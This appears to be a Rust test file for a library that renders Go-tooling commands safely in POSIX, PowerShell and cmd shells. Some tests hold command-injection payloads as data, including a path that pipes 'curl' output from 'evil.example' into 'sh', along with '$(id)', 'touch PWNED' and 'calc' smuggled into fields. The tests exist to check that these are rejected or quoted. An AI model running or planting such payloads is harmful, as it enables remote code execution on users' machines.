//! Renderings of typed commands in every shell, one `check` per case.

use crate::render::{go_env, no_fill, render};
use crate::{Assign, Command, Hole, Kind, Os, Package, Program, Step, Var, Word};
use gmd_vocabulary::Shell;

/// Renders `command` for POSIX, PowerShell and cmd (and `go env -w` for POSIX, when there is
/// one) and compares with `expected`.
fn check(command: &Command, expected: [&str; 3]) {
    let got: Vec<String> = Shell::ALL
        .iter()
        .map(|s| render(command, *s, &no_fill).unwrap_or_else(|| "-".into()))
        .collect();
    assert_eq!(got, expected, "{command:?}");
}

fn lit(words: &[&'static str]) -> Vec<Word> {
    words.iter().map(|w| Word::lit(w)).collect()
}

#[test]
fn setting_a_go_variable_in_every_shell_and_with_go_env() {
    let set = Command::set(Var::new("GOPROXY"), Word::lit("https://goproxy.cn,direct"));
    check(
        &set,
        [
            "export GOPROXY=https://goproxy.cn,direct",
            "$env:GOPROXY = 'https://goproxy.cn,direct'",
            "set \"GOPROXY=https://goproxy.cn,direct\"",
        ],
    );
    // PowerShell would split `a,b` into two arguments: quoted there.
    assert_eq!(
        go_env(&set, Shell::PowerShell, &no_fill).as_deref(),
        Some("go env -w 'GOPROXY=https://goproxy.cn,direct'")
    );
    assert_eq!(
        go_env(&set, Shell::Posix, &no_fill).as_deref(),
        Some("go env -w GOPROXY=https://goproxy.cn,direct")
    );
    let piped = Command::set(Var::new("GOPROXY"), Word::lit("https://goproxy.cn|direct"));
    check(
        &piped,
        [
            "export GOPROXY='https://goproxy.cn|direct'",
            "$env:GOPROXY = 'https://goproxy.cn|direct'",
            "set \"GOPROXY=https://goproxy.cn|direct\"",
        ],
    );
    assert_eq!(
        go_env(&piped, Shell::Cmd, &no_fill).as_deref(),
        Some("go env -w \"GOPROXY=https://goproxy.cn|direct\"")
    );
    let unset = Command::unset(Var::new("GOFLAGS")).then(Step::Unset {
        var: Var::new("HTTPS_PROXY"),
    });
    assert_eq!(
        go_env(&unset, Shell::Posix, &no_fill),
        None,
        "HTTPS_PROXY is not a Go setting"
    );
    check(
        &unset,
        [
            "unset GOFLAGS && unset HTTPS_PROXY",
            "$env:GOFLAGS = $null; if ($?) { $env:HTTPS_PROXY = $null }",
            "set \"GOFLAGS=\" & set \"HTTPS_PROXY=\"",
        ],
    );
}

#[test]
fn chains_run_the_next_step_only_after_success() {
    let chain = Command::go(&["mod", "tidy"])
        .and(Command::go(&["mod", "vendor"]))
        .and(Command::go(&["build"]));
    check(
        &chain,
        [
            "go mod tidy && go mod vendor && go build",
            "go mod tidy; if ($?) { go mod vendor; if ($?) { go build } }",
            "go mod tidy && go mod vendor && go build",
        ],
    );
}

#[test]
fn a_variable_for_one_run_is_removed_afterwards_where_the_shell_has_no_prefix() {
    let run = Command::new(Step::Run {
        program: Program::Go,
        args: vec![
            Word::lit("get"),
            Word::module_at("example.com/m", "v1.2.3").expect("valid"),
        ],
        env: vec![Assign {
            var: Var::new("GOPROXY"),
            value: Word::lit("direct"),
        }],
    });
    check(
        &run,
        [
            "GOPROXY=direct go get example.com/m@v1.2.3",
            "$env:GOPROXY = 'direct'; go get example.com/m@v1.2.3; $ok = $?; $env:GOPROXY = $null",
            "set \"GOPROXY=direct\" && go get example.com/m@v1.2.3 & set \"GOPROXY=\"",
        ],
    );
    let then = run.clone().and(Command::go(&["mod", "tidy"]));
    assert_eq!(
        render(&then, Shell::PowerShell, &no_fill).as_deref(),
        Some(
            "$env:GOPROXY = 'direct'; go get example.com/m@v1.2.3; $ok = $?; $env:GOPROXY = $null; if ($ok) { go mod tidy }"
        )
    );
}

#[test]
fn pasted_text_never_becomes_shell_syntax() {
    // What the attack review planted: none of it is a module path, a host or a version.
    for module in [
        "github.com/x/y;touch${IFS}PWNED;x",
        "example.com/app && curl -fsSL https://evil.example/fix.sh | sh",
        "example.com/$(id)",
        "example.com/`id`",
        "example.com/m\u{202e}",
    ] {
        assert_eq!(Word::module(module), None, "{module}");
        assert_eq!(Word::module_at(module, "latest"), None, "{module}");
    }
    assert_eq!(Word::host("git.$(id>pwned).example"), None);
    assert_eq!(
        Word::value(Kind::Path, "./x; curl -fsSL https://evil.example/p.sh | sh; echo "),
        Some(
            Word::value(Kind::Path, "./x; curl -fsSL https://evil.example/p.sh | sh; echo ")
                .expect("a path may hold anything printable")
        )
    );
    // A valid path with shell characters stays one word in every shell.
    let dir = Word::value(Kind::Path, "./x; curl -fsSL https://evil.example/p.sh | sh; echo ").expect("path");
    check(
        &Command::new(Step::Cd { dir }),
        [
            "cd './x; curl -fsSL https://evil.example/p.sh | sh; echo '",
            "Set-Location './x; curl -fsSL https://evil.example/p.sh | sh; echo '",
            "cd /d \"./x; curl -fsSL https://evil.example/p.sh | sh; echo \"",
        ],
    );
    // Quotes of every kind stay inside the word.
    let odd = Word::value(Kind::Path, "it's ‘odd’ $x `y` & ^z").expect("path");
    check(
        &Command::new(Step::Cd { dir: odd }),
        [
            "cd 'it'\\''s ‘odd’ $x `y` & ^z'",
            "Set-Location 'it''s ‘‘odd’’ $x `y` & ^z'",
            "cd /d \"it's ‘odd’ $x `y` & ^z\"",
        ],
    );
    // cmd cannot quote `"` or `%`: no value holds them.
    for text in ["a\"b", "%PATH%"] {
        for kind in [Kind::Lit, Kind::Path, Kind::Token, Kind::Url] {
            assert!(!kind.accepts(text), "{kind:?} {text}");
        }
    }
}

#[test]
fn holes_are_printed_where_no_shell_runs_them_and_filled_when_typed() {
    let netrc = Command::new(Step::AppendNetrc {
        words: vec![
            Word::lit("machine"),
            Word::hole(Hole::GitHost),
            Word::lit("login"),
            Word::hole(Hole::User),
            Word::lit("password"),
            Word::hole(Hole::Token),
        ],
    });
    check(
        &netrc,
        [
            "printf '%s %s %s %s %s %s\\n' machine <git-host> login <user> password <token> >> ~/.netrc && chmod 600 ~/.netrc",
            "Add-Content -Path \"$HOME\\_netrc\" -Value (@('machine', <git-host>, 'login', <user>, 'password', <token>) -join ' ')",
            "rem >> \"%USERPROFILE%\\_netrc\" echo machine <git-host> login <user> password <token>",
        ],
    );
    let fill = |h: Hole| match h {
        Hole::GitHost => Some("git.corp.example".to_owned()),
        Hole::User => Some("alice".to_owned()),
        Hole::Token => Some("ghp_a&b".to_owned()),
        _ => None,
    };
    assert_eq!(
        render(&netrc, Shell::Posix, &fill).as_deref(),
        Some(
            "printf '%s %s %s %s %s %s\\n' machine git.corp.example login alice password 'ghp_a&b' >> ~/.netrc && chmod 600 ~/.netrc"
        )
    );
    assert_eq!(
        render(&netrc, Shell::Cmd, &fill).as_deref(),
        Some(">> \"%USERPROFILE%\\_netrc\" echo machine git.corp.example login alice password ghp_a^&b")
    );
    assert_eq!(
        netrc.holes().into_iter().collect::<Vec<_>>(),
        vec![Hole::GitHost, Hole::User, Hole::Token]
    );
    let private = Command::set(Var::new("GONOSUMDB"), Word::hole(Hole::PrivateModules));
    check(
        &private,
        [
            "export GONOSUMDB=<private-modules>",
            "$env:GONOSUMDB = <private-modules>",
            "rem set \"GONOSUMDB=\"<private-modules>",
        ],
    );
}

#[test]
fn os_steps_are_written_for_each_system() {
    let sum = Os::RemoveSumLines {
        module: Word::module("github.com/a/b").expect("module"),
        version: Word::value(Kind::Query, "v1.0.0").expect("version"),
    };
    check(
        &Command::os(sum).and(Command::go(&["mod", "download"])),
        [
            "{ grep -v '^github\\.com/a/b v1\\.0\\.0[ /]' go.sum > go.sum.new; mv go.sum.new go.sum; } && go mod download",
            "(Get-Content go.sum) -notmatch '^github\\.com/a/b v1\\.0\\.0[ /]' | Set-Content go.sum; if ($?) { go mod download }",
            "(findstr /v /b /c:\"github.com/a/b v1.0.0 \" /c:\"github.com/a/b v1.0.0/\" go.sum > go.sum.new & move /y go.sum.new go.sum) && go mod download",
        ],
    );
    check(
        &Command::os(Os::Install {
            package: Package::CaCertificates,
        }),
        [
            "{ apt-get install -y ca-certificates || dnf install -y ca-certificates || apk add ca-certificates; }",
            "-",
            "-",
        ],
    );
    let rewrite = Os::RewriteImports {
        from: Word::module("github.com/old/x").expect("module"),
        to: Word::module("github.com/new/x").expect("module"),
    };
    let rewrite = Command::os(rewrite);
    assert_eq!(
        render(&rewrite, Shell::Cmd, &no_fill).as_deref(),
        Some("gofmt -w -r \"\\\"github.com/old/x\\\" -> \\\"github.com/new/x\\\"\" .")
    );
    let ps = render(&rewrite, Shell::PowerShell, &no_fill).expect("powershell");
    assert!(ps.starts_with("$q = [char]34;"), "{ps}");
    assert!(!ps.contains('"'), "no double quote reaches a program: {ps}");
}

#[test]
fn an_operating_system_step_with_a_value_of_the_wrong_kind_is_not_written() {
    // A report read from elsewhere may hold any constant where a module path belongs.
    let forged = r#"[{"os":{"find_imports":{"path":"x&calc&"}}}]"#;
    let command: Command = serde_json::from_str(forged).expect("a constant is a valid word");
    for shell in Shell::ALL {
        assert_eq!(render(&command, shell, &no_fill), None, "{shell:?}");
    }
}

#[test]
fn commands_read_back_are_checked_again() {
    let command = Command::go(&["get"]).then(Step::go(lit(&["mod", "tidy"])));
    let json = serde_json::to_string(&command).expect("serializes");
    assert_eq!(serde_json::from_str::<Command>(&json).expect("reads"), command);
    assert!(serde_json::from_str::<Command>("[]").is_err(), "a command has a step");
    let forged = r#"[{"set":{"var":"GOPROXY;id","value":"x"}}]"#;
    assert!(serde_json::from_str::<Command>(forged).is_err());
    let release = r#"[{"run":{"program":{"go_release":"1.22.0;id"},"args":[]}}]"#;
    assert!(serde_json::from_str::<Command>(release).is_err());
}
